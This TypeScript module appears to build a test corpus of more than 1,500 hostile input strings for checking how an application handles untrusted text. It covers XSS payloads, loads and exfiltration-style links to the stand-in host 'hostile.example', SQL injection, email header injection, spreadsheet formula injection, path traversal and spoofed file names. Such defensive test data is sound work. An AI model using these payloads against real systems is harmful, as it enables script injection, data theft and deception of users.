import { naughtyStrings } from "./hostile-text.ts";

/**
 * Texts that an attacker may type, or use as a file name, to make a page run, load, send or open something: each way out
 * of a place where a text may be, with each thing that could be done there, in several spellings. Their scripts set
 * `ran`, and they load from `hostile.example`.
 */
const code = "globalThis.ran=1";
const there = "//hostile.example/x";

const waysOut = [
  ...["", '">', "'>", "`>", "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>", "</template>"],
  ...["</noscript>", "</select></option>", '\\">', "\u0000>", "<!--<script>", "</pre></p></div>"],
];

const things = [
  `<script>${code}</script>`,
  `<script src=${there}></script>`,
  `<ScRiPt\n>${code}</sCrIpT >`,
  `<img src=x onerror=${code}>`,
  `<img src=${there}>`,
  `<svg onload=${code}>`,
  `<svg><script href=data:,${code} />`,
  `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${code}>#x"/></svg>`,
  `<svg><a href="javascript:${code}"><text y=9>x</text></a></svg>`,
  `<iframe src="javascript:${code}"></iframe>`,
  `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  `<object data="data:text/html,<script>${code}</script>"></object>`,
  `<embed src=${there}>`,
  `<video><source onerror=${code}></video>`,
  `<audio src=${there} autoplay>`,
  `<details open ontoggle=${code}>x</details>`,
  `<input autofocus onfocus=${code}>`,
  `<marquee onstart=${code}>x</marquee>`,
  `<a href="javascript:${code}" autofocus>x</a>`,
  `<form action=${there}><button autofocus>x</button></form>`,
  `<form id=f></form><button form=f formaction="javascript:${code}">x</button>`,
  `<base href=${there}>`,
  `<meta http-equiv=refresh content="0;url=${there}">`,
  `<link rel=stylesheet href=${there}>`,
  `<link rel=prefetch href=${there}>`,
  `<style>@import "${there}";</style>`,
  `<style>*{background:url(${there})}</style>`,
  `<p style="background:url(${there})">x</p>`,
  `<math><mtext><table><mglyph><style><img src onerror=${code}>`,
  `<template shadowrootmode=open><script>${code}</script></template>`,
  `<x-y tabindex=1 autofocus onfocus=${code}>`,
];

const handlers =
  "onabort onanimationend onauxclick onbeforeinput onbeforetoggle onblur oncanplay onchange onclick onclose oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondrop onended onerror onfocus onfocusin oninput oninvalid onkeydown onkeyup onload onloadstart onmessage onmousedown onmouseenter onmousemove onmouseover onpagehide onpageshow onpaste onplay onpointerdown onpointerenter onpointerover onpointerrawupdate onpopstate onprogress onreset onresize onscroll onscrollend onsearch onselect onselectionchange onshow onstorage onsubmit ontoggle ontouchstart ontransitionend onunhandledrejection onunload onvolumechange onwheel onwebkitanimationend";

const schemes = [
  ...["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\u0001javascript:", " javascript:"],
  ...["javascript&colon;", "&#106;avascript:", "&#x6A;avascript:", "javascript%3A", "javascript://%0A"],
  ...["vbscript:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "blob:", "filesystem:"],
  ...["view-source:", "file:///", "//", "\\\\", "/\\", "http:", "mailto:", "tel:", "intent://", "ms-word:ofe|u|"],
];

const templates = [
  ...["{{constructor.constructor('%')()}}", `\${%}`, "#{%}", "<%= % %>", "{% %}", "[[%]]", "{{first_name}}{{%}}"],
  ...[
    '{"__proto__":{"x":"%"}}',
    '[{"_1":2},"x","%"]',
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "$$typeof",
  ],
  ...['{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"%"}}', "dangerouslySetInnerHTML"],
  ...['{"dangerouslySetInnerHTML":{"__html":"%"}}', "\\u003cscript\\u003e%\\u003c/script\\u003e", "\u2028%\u2029"],
];

const queries = [
  ...[
    "' OR '1'='1",
    "'; DROP TABLE leads; --",
    '" OR 1=1 --',
    "1); DELETE FROM threads; --",
    "\\'; --",
    "%' ESCAPE '\\",
  ],
  ...[
    "NEAR(a b)",
    "a AND",
    "NOT",
    '"unclosed',
    "col:a",
    "^a",
    "a*",
    "{a b}:c",
    "a:*",
    "a & ! b",
    "<->",
    "((((",
    "%%",
    "___",
  ],
];

const headers = [
  ...[
    "x\r\nBcc: spy@hostile.example",
    "x\nContent-Type: text/html\n\n<script>%</script>",
    "x\r\n\r\n<script>%</script>",
  ],
  ...[
    "=?utf-8?B?PHNjcmlwdD4=?=",
    "=?utf-8?Q?=3Cscript=3E?=",
    "a@b.example\u0000<c@d.example>",
    "x%0d%0aSet-Cookie: desk=y",
  ],
  ...["<a@b.example>, <c@d.example>", '"a\\"<x@y.example>', "(a comment (in another))", "undisclosed-recipients:;"],
];

const cells = ["=", "+", "-", "@", "\t=", "\r=", "%=", ";=", '"=', "'="].flatMap((start) => [
  `${start}cmd|' /C calc'!A0`,
  `${start}HYPERLINK("${there}","x")`,
  `${start}IMPORTXML(CONCAT("${there}",A1),"//a")`,
]);

const endings = "html svg xhtml js mjs php exe com scr lnk url hta xml pdf.html jpg.svg docm xlsm iso bat vbs";
const fileNames = [
  ...endings.split(" ").flatMap((ending) => [`letter.${ending}`, `letter.pdf\u0000.${ending}`, `letter.${ending}. `]),
  ...endings.split(" ").map((ending) => `letter\u202E${[...ending].reverse().join("")}.pdf`),
  ...[
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\x",
    "CON",
    "NUL.txt",
    ".htaccess",
    "~",
    "-rf",
  ],
  ...[
    'x"; filename="y.html',
    "x'; filename*=UTF-8''y.html",
    "x\r\nContent-Type: text/html",
    "%2e%2e%2fx",
    "a".repeat(300),
  ],
];

/** Characters that turn, hide or break a text, each inside a word. */
const signs = [
  ...Array.from({ length: 32 }, (_, number) => number),
  ...[0x7f, 0x80, 0x85, 0x9f, 0xa0, 0xad, 0x034f, 0x061c, 0x115f, 0x17b4, 0x180e, 0x1d173, 0xd7ff, 0xe000, 0xfdd0],
  ...[0xfe0f, 0xfeff, 0xfff9, 0xfffa, 0xfffb, 0xfffc, 0xfffd, 0xfffe, 0xffff, 0x1f3fb, 0xe0001, 0xe0041, 0x10ffff],
  ...Array.from({ length: 0x30 }, (_, number) => 0x2000 + number),
  ...Array.from({ length: 0x10 }, (_, number) => 0x2060 + number),
].map((sign) => `Ma${String.fromCodePoint(sign)}ria<b>`);

const inOtherSpellings = things.flatMap((thing) => [
  encodeURIComponent(thing),
  thing.replace(/[<>"'=]/g, (sign) => `&#${sign.charCodeAt(0)};`),
  thing.replace(/[<>]/g, (sign) => `\\x${sign.charCodeAt(0).toString(16)}`),
  thing.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  thing.replaceAll("<", "\uFF1C").replaceAll(">", "\uFF1E"),
  thing.replace(/<(\w)/g, "<\u0000$1"),
]);

/** 1,500 and more, without duplicates; they include the Big List of Naughty Strings. */
export const hostileStrings: readonly string[] = [
  ...new Set([
    ...naughtyStrings,
    ...waysOut.flatMap((out) => things.map((thing) => out + thing)),
    ...handlers
      .split(" ")
      .flatMap((name) => [`" ${name}="${code}" x="`, `' ${name}='${code}' x='`, `x ${name}=${code} `]),
    ...schemes.map((scheme) => `${scheme}${code}`),
    ...[...templates, ...queries, ...headers].map((text) => text.replaceAll("%", code)),
    ...cells,
    ...fileNames,
    ...signs,
    ...inOtherSpellings,
  ]),
].filter((text) => text !== "");
